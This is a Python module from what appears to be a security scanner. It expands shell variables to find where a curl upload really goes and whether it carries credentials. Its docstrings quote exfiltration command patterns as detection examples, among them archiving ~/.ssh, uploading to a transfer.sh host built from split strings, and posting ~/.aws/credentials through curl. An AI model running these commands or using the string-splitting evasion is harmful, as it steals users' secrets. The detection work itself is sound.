"""Uploads read through shell variables: what file and which host a ``curl -T "$b" "https://$h/..."`` really names.

A script that keeps the credential directory and the destination in variables (``d="$HOME/.s""sh"``, ``tar czf
"$b" -C "$d" .``, ``h="trans"; h="${h}fer.sh"``, ``curl -T "$b" "https://$h/x"``) hides both from the line rules.
:func:`upload_target` expands the simple literal assignments of the file (quotes dropped, adjacent pieces joined,
earlier variables substituted, in file order) into the upload line and, when the uploaded file was written by an
archiver or a copy earlier in the file, into the line that wrote it. Nothing is run.
"""

from __future__ import annotations

import re

from skillyard.scan.analyzers.hosts import URL
from skillyard.scan.analyzers.secrets import secret_kind
from skillyard.scan.analyzers.shell_parse import Command
from skillyard.scan.analyzers.view import TextFile

_ASSIGN = re.compile(r"^(?:export\s+|local\s+|readonly\s+)?([A-Za-z_]\w*)=(\S*)$")
_REF = re.compile(r"\$\{(\w+)\}|\$(\w+)")
# commands that write an archive or a copy of their inputs: ``tar czf OUT ...``, ``zip -r OUT ...``, ``cp -r SRC OUT``
_PACK = re.compile(r"\b(?:tar|zip|7z|7za|cp|rsync|gzip|ditto)\b")
# the file argument of an upload: ``-T f``, ``--upload-file f``, ``-F x=@f``, ``--data-binary @f``
_SENT = re.compile(r"(?:\s-T\s+|--upload-file[=\s]+|--post-file[=\s]+|@)['\"]?([^\s'\";|&)]+)")


def _value(raw: str, env: dict[str, str]) -> str:
    """The literal value of an assignment's right side with known variables substituted (quotes dropped)."""
    out = raw.replace('"', "").replace("'", "")
    return _REF.sub(lambda m: env.get(m.group(1) or m.group(2), m.group(0)), out)


def expanded_rows(tf: TextFile) -> list[str]:
    """Every row of a shell file with the variables assigned literally before it substituted."""
    env: dict[str, str] = {}
    out: list[str] = []
    for row in tf.rows:
        text = row
        for stmt in row.split(";"):
            m = _ASSIGN.match(stmt.strip())
            if m is not None and "$(" not in m.group(2) and "`" not in m.group(2):
                env[m.group(1)] = _value(m.group(2), env)
        if "$" in row and env:
            text = _REF.sub(lambda m: env.get(m.group(1) or m.group(2), m.group(0)), row.replace('""', ""))
        out.append(text)
    return out


def upload_target(tf: TextFile, line: int) -> tuple[str, bool]:
    """The URL an upload on ``line`` goes to once variables are read, and whether the file it sends holds a
    credential location (the path itself, or an archive/copy of one written earlier in the file)."""
    if not ("=" in tf.text and "$" in tf.text) or line > len(tf.rows):
        return "", False
    rows = expanded_rows(tf)
    row = rows[line - 1]
    url = next((u for u in URL.findall(row) if "$" not in u.split("://", 1)[-1].split("/", 1)[0]), "")
    secret = secret_kind(row) in ("credential", "store", "env_file")
    sent = {m.group(1) for m in _SENT.finditer(row)}
    for earlier in rows[: line - 1]:
        if secret:
            break
        if _PACK.search(earlier) and any(s in earlier for s in sent):
            secret = secret_kind(earlier) in ("credential", "store", "env_file")
    return url, secret


_STDIN_DATA = frozenset({"@-", "-", "@/dev/stdin", "/dev/stdin"})
_DATA_FLAGS = ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form", "-T", "--upload-file")


def fed_secret(c: Command, pipeline: list[Command], pipelines: list[list[Command]]) -> bool:
    """A curl/wget whose body is its stdin (``--data-binary @-``, ``-T -``) or a command substitution
    (``-d "$(cat ~/.aws/credentials)"``), fed by a command naming a credential path (``tar czf - ~/.ssh |``)."""
    body = ""
    for i, w in enumerate(c.args[:-1]):
        nxt = c.args[i + 1]
        if w in _DATA_FLAGS:
            val = nxt.split("=", 1)[-1] if w in ("-F", "--form") else nxt
            if val in _STDIN_DATA:
                body = "stdin"
            elif "SUBST" in val or "$(" in val or "`" in val:
                body = "subst"
    if not body:
        return False
    if body == "stdin":
        feeders = pipeline[: pipeline.index(c)] if c in pipeline else []
    else:
        feeders = [x for pl in pipelines for x in pl if x.substituted]
    return any(secret_kind(" ".join(x.words)) in ("credential", "store", "env_file") for x in feeders)
